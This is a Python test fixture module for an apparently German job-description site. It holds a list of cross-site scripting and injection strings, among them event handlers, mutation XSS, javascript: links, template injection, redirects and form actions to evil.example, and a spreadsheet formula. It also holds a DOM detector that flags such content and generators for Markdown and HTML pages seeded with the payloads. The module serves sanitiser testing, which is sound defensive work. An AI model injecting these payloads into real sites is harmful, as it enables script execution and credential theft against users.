"""Words that somebody made to become markup, script or a lie about what stands beside them."""

from __future__ import annotations

PWN = "window.__pwned=1"

STRINGS: dict[str, str] = {
    "script": f"<script>{PWN}</script>",
    "script across a tag": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "handler": f'<img src=x onerror="{PWN}">',
    "handler without quotes": f"<img/src=x/onerror={PWN}>",
    "svg": f"<svg/onload={PWN}>",
    "svg link": f'<svg><a xlink:href="javascript:{PWN}"><text>klick</text></a></svg>',
    "details": f"<details open ontoggle={PWN}>",
    "focus": f"<input autofocus onfocus={PWN}>",
    "frame": f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{PWN}</script>"></object>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><button>Anmelden</button></form>',
    "style": '<style>*{background:url("https://evil.example/a")}</style>',
    "css escape": '<p style="background:\\75 rl(https://evil.example/b)">',
    "out of an attribute": f'" autofocus onfocus="{PWN}" x="',
    "out of another": f"' onmouseover='{PWN}' x='",
    "out of a comment": f"--><img src=x onerror={PWN}><!--",
    "out of a title": f"</title></textarea></style></script><img src=x onerror={PWN}>",
    "mutation": f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    "mutation in noscript": f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    "entities": f"&lt;img src=x onerror={PWN}&gt; &#60;script&#62;{PWN}&#60;/script&#62;",
    "template": "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} #{7*7}",
    "template of Gradio": "${(() => { window.__pwned = 1 })()} {{#each value}}x{{/each}}",
    "markdown link": f"[klick](javascript:{PWN})",
    "markdown data": "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown picture": f'![x](https://evil.example/x.png "onerror={PWN}")',
    "markdown html": f"\n\n<div onclick={PWN}>\n\n**fett**\n\n</div>",
    "markdown reference": f"[1]: javascript:{PWN}\n\n[klick][1]",
    "markdown code": f"```html\n<script>{PWN}</script>\n```",
    "autolink": f"<javascript:{PWN}>",
    "marker": '[1]" onclick="window.__pwned=1" [99999999999999]',
    "table": f"| a | <img src=x onerror={PWN}> |\n| - | - |\n| b | c |",
    "right to left": "\u202eknilb\u202c \u2066isolate\u2069 \u200fאבג",
    "invisible": "Ge\u200bhalt\u200d\u2060\ufeff\u00ad",
    "null": f"<img src=x\x00 onerror={PWN}>",
    "terminal": "\x1b[31mrot\x1b[0m\x1b]0;Titel\x07",
    "separators": f"a\u2028{PWN}\u2029\u0085b",
    "formula": '=HYPERLINK("https://evil.example/";"klick")',
}

LONG_WORD = "ü" * 64_000

SUSPICIOUS = """
() => {
  const found = [];
  if (window.__pwned !== undefined) found.push("a script ran");
  const own = ["kopf", "inhalt", "gehalt", "karriere", "rolle", "profil", "auswahl", "chat"]
    .map((id) => document.getElementById(id)).filter(Boolean);
  const roots = own.length ? own : [document.body];
  const dialogs = [...document.querySelectorAll("dialog, .toast")];
  for (const root of [...roots, ...dialogs]) {
    const foreign = "script, iframe, object, embed, base, meta, link, img, video, audio, math, "
      + "style, noscript, template, foreignObject";
    for (const one of root.querySelectorAll(foreign)) found.push(one.outerHTML.slice(0, 200));
  }
  for (const one of document.querySelectorAll("body *")) {
    for (const { name, value } of one.attributes) {
      if (/^on/i.test(name)) found.push(`${one.tagName} has ${name}=${value}`);
      if (/^(href|src|action|formaction|data|xlink:href|srcdoc)$/i.test(name)) {
        if (/^\\s*(javascript|vbscript|data):/i.test(value)) found.push(`${name}=${value}`);
        if (/evil\\.example/.test(value)) found.push(`${name}=${value}`);
      }
    }
    if (one.target === "_blank" && !/noopener.*noreferrer.*nofollow/.test(one.rel)) {
      found.push(`${one.outerHTML.slice(0, 100)} tells where it comes from`);
    }
  }
  return found;
}
"""
"""What there must not be on a page, whatever was typed or read."""


def article(role: str = "Fuhrparkmeister") -> str:
    """A Markdown article about a role, hostile in every place that is shown somewhere."""
    handler, script = STRINGS["handler"], STRINGS["script"]
    return f"""---
id: "boese\\"><img src=x onerror={PWN}>"
title: 'Was macht ein {role}? <img src=x onerror="{PWN}"> {{{{7*7}}}} ${{7*7}}'
publisher: 'Verlag "><script>{PWN}</script>'
url: 'javascript:{PWN}'
published: "2024-03-01"
language: de
country: DE
---

# Was macht ein {role}? {handler}

## Aufgaben eines {role}s {script} [klick](javascript:{PWN})

- Ein {role} plant die Wartung aller Fahrzeuge, sagt {handler} und lacht.
- Ein {role} führt das Fahrtenbuch, ![x](https://evil.example/x.png) und prüft es.
- Ein {role} kauft Reifen ein; {STRINGS["template"]} gehört nicht dazu.

<div onclick="{PWN}">Ein {role} betreut Fahrerinnen und Fahrer <svg/onload={PWN}>.</div>

## Was verdient ein {role}?

Ein {role} verdient in Deutschland zwischen 40.000 und 52.000 Euro brutto im Jahr, `{handler}`.
Mit Erfahrung verdient ein {role} 60.000 Euro brutto im Jahr ("onclick="{PWN}" x=").

## Anforderungen an einen {role}

- Ein {role} braucht einen Führerschein `<img src=x onerror={PWN}>` und Geduld.
- Ein {role} braucht Kenntnisse in „{STRINGS["out of an attribute"]}“.

## Karriere eines {role}s

Ein {role} kann nach drei bis fünf Jahren zum Leiter Fuhrpark `{script}` aufsteigen.
"""


def page(role: str = "Hallenwart") -> str:
    """An HTML page about a role, with scripts where a page has them."""
    return f"""<!doctype html><html lang="de"><head>
<title>{role} &lt;img src=x onerror={PWN}&gt;</title>
<meta name="author" content='"><img src=x onerror={PWN}>'>
<link rel="canonical" href="javascript:{PWN}"><script>{PWN}</script></head>
<body onload="{PWN}"><main><h1>Was macht ein {role}? &lt;svg onload={PWN}&gt;</h1>
<h2>Aufgaben</h2><ul>
<li>Ein {role} schließt die Halle auf und ab, &lt;script&gt;{PWN}&lt;/script&gt; sagt er dabei.</li>
<li>Ein {role} pflegt die Geräte <img src=x onerror="{PWN}"> und den Boden der Halle.</li>
<li>Ein {role} prüft <a href="javascript:{PWN}">die Notausgänge</a> jeden Morgen.</li></ul>
<p>Ein {role} verdient 30.000 Euro brutto im Jahr, &amp;lt;b onclick={PWN}&amp;gt; inklusive.</p>
</main></body></html>"""
